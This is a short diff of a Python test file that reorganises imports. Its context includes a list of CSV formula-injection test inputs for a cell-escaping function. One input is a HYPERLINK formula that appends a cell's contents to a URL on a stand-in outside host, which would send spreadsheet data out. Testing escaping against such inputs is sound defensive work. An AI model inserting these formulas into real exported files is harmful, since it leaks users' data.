@@ -12,9 +12,9 @@ from pathlib import Path
 
 import pytest
 
-from exactodds.compare import compare_variants, render_comparison
+from exactodds.bets.loader import load_paytable
 from exactodds.escape import csv_cell
-from exactodds.paytable_loader import load_paytable
+from exactodds.figures.compare import compare_variants, render_comparison
 from exactodds.report import Sheet, build_sheets, render_sheets
 
 FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
